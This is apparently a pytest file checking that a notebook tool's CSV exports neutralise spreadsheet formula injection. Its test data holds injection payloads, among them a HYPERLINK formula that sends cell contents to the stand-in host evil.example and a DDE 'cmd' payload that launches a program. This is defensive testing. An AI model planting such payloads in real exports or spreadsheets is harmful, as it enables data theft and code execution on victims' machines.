"""CSV downloads are safe to open in a spreadsheet: a cell that Excel, Sheets or Calc would run as a formula
(OWASP's list: a leading =, +, -, @, tab or carriage return) is written as text; numbers stay numbers, and
JSON and HTML downloads keep every value as it was."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from data_fixtures import config, data_dir  # noqa: E402,F401

from penny_jupyter.artifacts.exports import export  # noqa: E402
from penny_jupyter.engine import Engine  # noqa: E402
from penny_jupyter.tenancy import Principal  # noqa: E402

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
             "\t=1+1", "\r=1+1"]


def _table(rows, columns=None):
    keys = list(rows[0])
    return {"id": "art_x", "type": "table", "title": "t", "version": 1,
            "spec": {"columns": columns or [{"key": k, "label": k} for k in keys], "rows": rows}}


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize("value", DANGEROUS)
def test_each_formula_prefix_is_written_as_text(value):
    rows = _cells(export(_table([{"name": value, "n": 1}]), "csv").body)
    assert rows[1][0] == "'" + value and rows[1][1] == "1"


def test_numbers_and_plain_text_are_untouched():
    rows = [{"a": -5, "b": 2.5, "c": "-2.5", "d": "+3", "e": "1e-3", "f": "net -2", "g": None, "h": "a=b"}]
    out = _cells(export(_table(rows), "csv").body)
    assert out[1] == ["-5", "2.5", "-2.5", "+3", "1e-3", "net -2", "", "a=b"]


def test_json_and_html_keep_the_values_as_they_are():
    art = _table([{"name": v} for v in DANGEROUS])
    data = json.loads(export(art, "json").body)
    assert [r["name"] for r in data["spec"]["rows"]] == DANGEROUS
    page = export(art, "html").body.decode()
    assert "'=HYPERLINK" not in page and "=HYPERLINK" in page


def test_a_run_sql_alias_and_the_tenants_own_text_cannot_smuggle_a_formula(config):  # noqa: F811
    engine = Engine(config)
    who = Principal("alice", "demo", frozenset({"member"}))
    try:
        call = engine.executor.prepare("run_sql", {"query": """select '=HYPERLINK("http://evil.example","x")' as "=1+1",
                                                   -7 as "@n", 3.5 as ok"""}, who)
        outcome = asyncio.run(engine.executor.run(who, call))
        assert outcome.ok, outcome.error
        out = _cells(export(outcome.artifacts[0], "csv").body)
    finally:
        engine.close()
    assert out[0] == ["'=1+1", "'@n", "ok"]
    assert out[1] == ['\'=HYPERLINK("http://evil.example","x")', "-7", "3.5"]
